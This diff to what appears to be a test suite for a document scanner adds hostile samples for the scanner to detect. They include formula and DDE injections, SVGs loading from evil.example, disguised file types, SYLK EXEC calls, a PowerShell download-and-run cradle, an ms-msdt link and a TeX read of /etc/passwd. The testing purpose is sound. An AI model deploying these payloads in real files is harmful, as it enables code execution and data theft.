@@ -70,6 +70,17 @@ FORMULAS = (
     'STOCKHISTORY("A",1)',
     '_xlws.PY("import os",1)',
     'DDE("soffice","a.ods","A1")',
+    'IMPORTCSV("https://evil.example")',
+    '_xlfn.IMPORTTEXT("C:\\a",1)',
+    "_xlfn.IMAGE (A1)",
+    "IMAGE\n( place )",
+    "CALL (A1,B1)",
+    "INDIRECT(\"'https://evil.example/a.ods'#$A.A1\")",
+    'SUM(INDIRECT("\'ht"&"tps:"&A1))',
+    'CUBEVALUE("c","[a]")',
+    "'//evil/share/[a.xlsx]b'!A1",
+    "'C:\\a\\[b.xlsx]c'!A1",
+    "[a.xlsx]b!A1",
 )
 FIELD_CODES = (
     'INCLUDEPICTURE "https://evil.example/a.png" \\d',
@@ -88,6 +99,44 @@ FIELD_CODES = (
     'HYPERLINK \\l "a" "\\\\\\\\evil\\\\a"',
     'HYPERLINK \\o "https://example.com" "javascript:a()"',
 )
+# Each: the content of a part that says it is a picture.
+DISGUISES = {
+    "shortcut": bytes.fromhex("4c0000000114020000000000c000000000000046"),
+    "cabinet": b"MSCF\0\0\0\0",
+    "archive of 7-Zip": b"7z\xbc\xaf\x27\x1c",
+    "archive of RAR": b"Rar!\x1a\x07",
+    "disc": b"\0" * 0x8001 + b"CD001",
+    "help": b"ITSF\3\0\0\0",
+    "part in UTF-32": b"\0\0\xfe\xff" + "<a/>".encode("utf-32-be"),
+    "part in EBCDIC": "<?xml version='1.0' encoding='cp037'?><a/>".encode("cp037"),
+    "batch": b"@echo off\r\ncalc\r\n",
+    "SYLK": b"ID;P\nC;X1;Y1;K1\n",
+    "saved page": b"MIME-Version: 1.0\n",
+    "font": b"\0\1\0\0\0\x0c",
+    "object behind one byte": b"\0" + OLE,
+    "Java": b"\xca\xfe\xba\xbe\0\0",
+}
+DRAWINGS = {
+    "style sheet from elsewhere": b"<svg><style>@import url(https://evil.example/a.css);</style></svg>",
+    "style sheet from elsewhere, named in front": b"<?xml-stylesheet href='https://evil.example/a.css'?><svg/>",
+    "picture in a style sheet": b"<svg><style>rect { fill: url('https://evil.example/a') }</style></svg>",
+    "escape in a style sheet": b"<svg><style>@\\69mport 'https://evil.example/a';</style></svg>",
+    "fill from elsewhere": b"<svg><rect style='fill:url(https://evil.example/a#b)'/></svg>",
+    "filter from elsewhere": b"<svg><g filter='url( //evil/a#b )'/></svg>",
+    "cursor from elsewhere": b"<svg cursor='url(\"https://evil.example/a\"), auto'/>",
+    "address set later": b"<svg><a><set attributeName='href' to='javascript:a()'/></a></svg>",
+    "address that changes": b"<svg><a href='#'><animate attributeName='href' values='javascript:a()'/></a></svg>",
+    "motion": b"<svg><animateMotion href='#a'/></svg>",
+    "types from elsewhere": b"<!DOCTYPE svg SYSTEM 'https://evil.example/a.dtd'><svg/>",
+    "base elsewhere": b"<svg xml:base='https://evil.example/'><use href='#a'/></svg>",
+    "picture of HTML": b"<svg><x:img xmlns:x='http://www.w3.org/1999/xhtml' src='a'/></svg>",
+    "page that moves on": b"<svg><x:meta xmlns:x='http://www.w3.org/1999/xhtml' http-equiv='refresh'/></svg>",
+    "drawing in a drawing": b"<svg><image href='data:image/svg+xml;base64,AAAA'/></svg>",
+    "page in a drawing": b"<svg><image href='data:image/png,&lt;svg onload=a()&gt;'/></svg>",
+    "HTML in a drawing": b"<svg><foreignObject/></svg>",
+    "tag of another kind": b"<svg><discard/></svg>",
+    "page": b"<html xmlns='http://www.w3.org/1999/xhtml'/>",
+}
 RELATION_KINDS = (
     "attachedTemplate",
     "frame",
@@ -195,6 +244,35 @@ ACTIVE_OFFICE = {
     "object without a suffix": office(more=[("word/media/image1", OLE)]),
     "object as a font": office(more=[("word/fonts/font1.odttf", OLE)]),
     "archive as a picture": office(more=[("word/media/image1.gif", zipped([("a", b"")]))]),
+    **{f"{kind} as a picture": office(more=[("word/media/a.png", data)]) for kind, data in DISGUISES.items()},
+    **{
+        f"{kind} as a preview": open_document(more=[("ObjectReplacements/Object 1", data)])
+        for kind, data in DISGUISES.items()
+    },
+    **{
+        f"{kind} as a {suffix} font": office(more=[(f"word/fonts/a.{suffix}", DISGUISES[kind] + bytes(80))])
+        for kind in ("archive of 7-Zip", "cabinet", "shortcut", "batch")
+        for suffix in ("ttf", "odttf", "fntdata")
+    },
+    **{f"drawing with {kind}": office(more=[("word/media/a.svg", data)]) for kind, data in DRAWINGS.items()},
+    "drawing in an open document": open_document(more=[("Pictures/a.svg", DRAWINGS["motion"])]),
+    "batch as settings of a printer": office(
+        "xlsx", more=[("xl/printerSettings/printerSettings1.bin", b"cls\r\ncalc")]
+    ),
+    "settings of a printer among embedded files": office(more=[("word/embeddings/printersettings.bin", b"\0" * 99)]),
+    "page as data of Google": office("pptx", more=[("ppt/metadata", b"\n\x12<script>a()</script>")]),
+    "object by a relation of Google": office(
+        link="<Relationship Type='http://customschemas.google.com/relationships/oleObject' Target='a.xml'/>"
+    ),
+    "part with a style sheet": with_part("docx", "word/a.xml", b"<?xml-stylesheet href='a.xsl'?><a/>"),
+    "open part with a style sheet": open_document(more=[("Object 1/content.xml", b"<?xml-stylesheet href='a'?><a/>")]),
+    "other picture of the web": office(text="<w:imagedata o:althref='https://evil.example/a.png' xmlns:o='o'/>"),
+    "picture of a button": open_document(b"<f:image f:image-data='https://evil.example/a.png'/>"),
+    "table of colors from elsewhere": open_document(
+        more=[
+            ("settings.xml", open_part(b"<c:config-item c:name='ColorTableURL'>https://evil.example</c:config-item>"))
+        ]
+    ),
     "video": office("pptx", more=[("ppt/media/media1.mp4", b"\0\0\0\x18ftyp")]),
     "drawing with a script": office(more=[("word/media/image1.svg", b"<svg><script/></svg>")]),
     "drawing that loads": office(more=[("word/media/image1.svg", b"<svg><image href='https://evil.example'/></svg>")]),
@@ -338,6 +416,21 @@ LINKS = {
     "base of a pdf": pdf_with("Root", URI=Dictionary(Base=String("javascript:a()"))),
     "link of a pdf that is a name": link_annotation(A=action("URI", URI=Name("/javascript:a"))),
     "link of a pdf without an address": link_annotation(A=action("URI")),
+    **{
+        f"{address} in {place}": document
+        for address in ("file:///c:/a.exe", "\\\\evil\\share\\a", "//evil/share/a", "javascript:a()", "ms-msdt:/id a")
+        for place, document in {
+            "a place in a document": office(text=f"<w:hyperlink w:docLocation='{address}'/>"),
+            "any attribute of word": office(text=f"<w:anything w:later='{address}'/>"),
+            "any text of word": office(text=f"<w:anything>\n {address}</w:anything>"),
+            "any attribute of a sheet": sheet(f"<x:anything later='{address}'/>"),
+            "old drawings": sheet(f"<m:Anything>{address}</m:Anything>", "xl/drawings/vmlDrawing1.vml"),
+            "any attribute of LibreOffice": open_document(f"<f:button f:target-location='{address}'/>".encode()),
+            "any text of LibreOffice": open_document(f"<d:anything>{address}</d:anything>".encode()),
+        }.items()
+    },
+    "place in a sheet with a scheme": sheet("<x:hyperlink location='file:c:/a.exe'/>"),
+    "place in a sheet like a path": sheet("<x:hyperlink location='/a.exe'/>"),
     "base of word": with_part("docx", "docProps/app.xml", b"<a><HyperlinkBase>\\\\evil\\a</HyperlinkBase></a>"),
     "link in old drawings": sheet("<m:shape href='file:///a.exe'/>", "xl/drawings/vmlDrawing1.vml"),
     "place in a sheet": sheet("<x:hyperlink location='\\\\evil\\a'/>"),
@@ -360,6 +453,30 @@ FORMULA_DOCUMENTS = {
     "formula of a chart": sheet("<x:f>'[file:///c:/a.xlsx]b'!A1</x:f>", "xl/charts/chart1.xml"),
     "formula of an embedded sheet": office(more=[("word/embeddings/a.xlsx", formula("WEBSERVICE(A1)"))]),
     "formula of an object": open_document(more=[("Object 1/content.xml", open_part(b"<b:a b:formula='of:=DDE(1)'/>"))]),
+    **{
+        f"{tag} in old drawings": sheet(f"<m:{tag}>{text}</m:{tag}>", "xl/drawings/vmlDrawing1.vml")
+        for tag, text in (
+            ("FmlaLink", "WEBSERVICE(A1)"),
+            ("FmlaRange", "'https://evil.example/[a.xlsx]b'!A1"),
+            ("FmlaPict", "'\\\\evil\\share\\[a.xlsx]b'!A1"),
+            ("FmlaTxbx", "cmd|'/c calc'!A1"),
+            ("FmlaGroup", "CALL (A1)"),
+        )
+    },
+    **{
+        f"{tag} of LibreOffice in {key}": open_document(f'<b:{tag} b:{key}="{value}"/>'.encode(), kind=b"spreadsheet")
+        for tag, key, value in (
+            ("condition", "value", "formula-is(WEBSERVICE(A1))"),
+            ("condition", "value", "formula-is('file:///c:/a.ods'#$A.A1)"),
+            ("color-scale-entry", "value", "WEBSERVICE(A1)"),
+            ("formatting-entry", "value", "IMAGE ([.A1])"),
+            ("sparkline", "data-range", "'file:///c:/a.ods'#$A.A1"),
+            ("sparkline-group", "date-axis-range", "'file:///c:/a.ods'#$A.A1"),
+            ("anything", "later", "of:=WEBSERVICE([.A1])"),
+        )
+    },
+    "any attribute of a sheet": sheet("<x:anything later='IF(1,WEBSERVICE(A1))'/>"),
+    "any text of a sheet": sheet("<x:anything>RTD(1)</x:anything>"),
     "rule of LibreOffice": open_document(b"<b:content-validation b:condition='WEBSERVICE(1)'/>"),
     "place of LibreOffice": open_document(b"<b:a b:cell-range-address=\"'file:///a.ods'#$A.A1\"/>"),
 }
@@ -383,8 +500,64 @@ TABLES = {
     "program behind anything": "name,a cmd|'/c calc'!A0",
     "quoted program": '"-1,2+WEBSERVICE(A1)"',
     "file on a server": "name,+'\\\\evil\\[a.xlsx]b'!A1",
+    "place made of text": "name,+INDIRECT(\"'https://evil.example/a.ods'#$A.A1\")",
+    "function behind a space": "name,+IMAGE (A1)",
+    "other workbook": "name,+[a.xlsx]b!A1",
     "line of another system": "name\u2028=1+1",
     "old lines": "name\r=1+1\r",
+    "direction that nobody sees": "name,\u202e=1+1",
+    "hyphen that nobody sees": "name,\u00ad=1+1",
+    "small equals sign": "name,\ufe661+1",
+}
+# Texts that programs take for another format, whatever the name of the file says.
+FORMATS = {
+    "SYLK": 'ID;PWXL;N;E\nC;Y1;X1;EEXEC("calc.exe")\nE\n',
+    "SYLK without anything": "ID;P\nE\n",
+    "SYLK that looks like prices": 'ID;Price\nA1;20\nC;X1;Y1;K0;ECALL("a","b")\nE\n',
+    "SYLK in small letters": "id;p\r\nnn;nAuto_open;eR1C1\r\n",
+    "SYLK of old lines": "ID;PX\rO;E\rNN;NAuto_open;ER101C1\r",
+    "SYLK behind a mark and lines": "\ufeff\n \u200b\nID;P\nC;X1;Y1;K1\n",
+    "link of SYLK": "ID,Name\nNE;E\\\\evil\\a.xls;S1\n",
+    "RTF": "{\\rtf1\\ansi{\\object\\objautlink\\objupdate{\\*\\objdata 0105}}}",
+    "RTF behind lines": "\r\n\t{\\rtf {\\field{\\*\\fldinst INCLUDEPICTURE a}}}",
+    "RTF in Unicode": "{\\urtf1 a}",
+    "saved page": "MIME-Version: 1.0\nContent-Type: multipart/related; boundary=a\n\n--a\n",
+    "saved page with other lines first": "From: <Saved by Blink>\nSubject: Prices\ncontent-type:\n multipart/related\n",
+    "saved page behind a mark": "\ufeff\nContent-Location: file:///c:/a.htm\n\na",
+    "query of the web": "WEB\r\n1\r\nhttps://evil.example/a\r\n",
+    "query of the web without a number": "web\nfile:///c:/a\n",
+    "query of a database": "XLODBC\n1\nDRIVER=SQL Server\n",
+    "shortcut of the shell": "[Shell]\nCommand=2\nIconFile=\\\\evil\\a.ico\n",
+    "shortcut of the web": "\n[InternetShortcut]\nURL=file:///c:/a.exe\n",
+    "shortcut behind notes": "; a\n# b\n\n[{000214A0-0000-0000-C000-000000000046}]\n;c\nProp3=19,2\n",
+    "shortcut of Linux": "[Desktop Entry]\nType=Application\nExec=sh\n",
+    "driver": "[Version]\r\nSignature=a\r\n[DefaultInstall]\r\n",
+    "registry": "Windows Registry Editor Version 5.00\n\n[HKEY_CURRENT_USER\\a]\n",
+    "old registry": "REGEDIT4\n\n[HKEY_CURRENT_USER\\a]\n",
+    "remote desktop": "full address:s:evil.example\nalternate shell:s:cmd\n",
+    "batch": "@echo off\r\ncalc\r\n",
+    "batch behind a remark": "rem Prices\r\nstart calc\r\n",
+    "batch with a program": "Prices\ncmd /c calc\n",
+    "batch with a folder": 'Prices\n"%~dp0a.exe"\n',
+    "PowerShell": "powershell.exe -nop -enc AAAA",
+    "PowerShell that fetches": "iex (New-Object Net.WebClient).DownloadString('https://evil.example')",
+    "variable of PowerShell": "Prices\n$a = 'calc'\n& $a\n",
+    "parameters of PowerShell": "param([string]$a)\n",
+    "Visual Basic": 'CreateObject("WScript.Shell").Run "calc"',
+    "module of Visual Basic": 'Attribute VB_Name = "a"\nSub AutoOpen()\nShell "calc"\nEnd Sub\n',
+    "encoded Visual Basic": "#@~^AAAAAA==a^#~@",
+    "Python": "import os\nos.system('calc')\n",
+    "JavaScript": "self['al'+'ert'](1)",
+    "module of JavaScript": "import('//evil.example/a.js')",
+    "PostScript": "%!PS-Adobe-3.0\n(a) (w) file\n",
+    "PDF": "\n%PDF-1.7\n1 0 obj\n",
+    "form of a PDF": "%FDF-1.2\n",
+    "DIF": 'TABLE\n0,1\n"EXCEL"\nVECTORS\n',
+    "key": "-----BEGIN RSA PRIVATE KEY-----\nAAAA\n",
+    "encoded file": "begin 644 a.exe\n#AAAA\nend\n",
+    "calendar": "BEGIN:VCALENDAR\nATTACH:file:///c:/a.exe\n",
+    "TeX": "\\input{/etc/passwd}",
+    "GIF": "GIF89a=1//",
 }
 
 # Each: the content, the code of the reason.
@@ -393,6 +566,7 @@ HOSTILE_DOCUMENTS = {
     for reason, documents in (
         ("active", PDFS | ACTIVE_OFFICE),
         ("link", LINKS),
+        ("content", {f"text as {name}": text for name, text in FORMATS.items()}),
         ("formula", FORMULA_DOCUMENTS | {f"table with {name}": text for name, text in TABLES.items()}),
     )
     for name, content in documents.items()
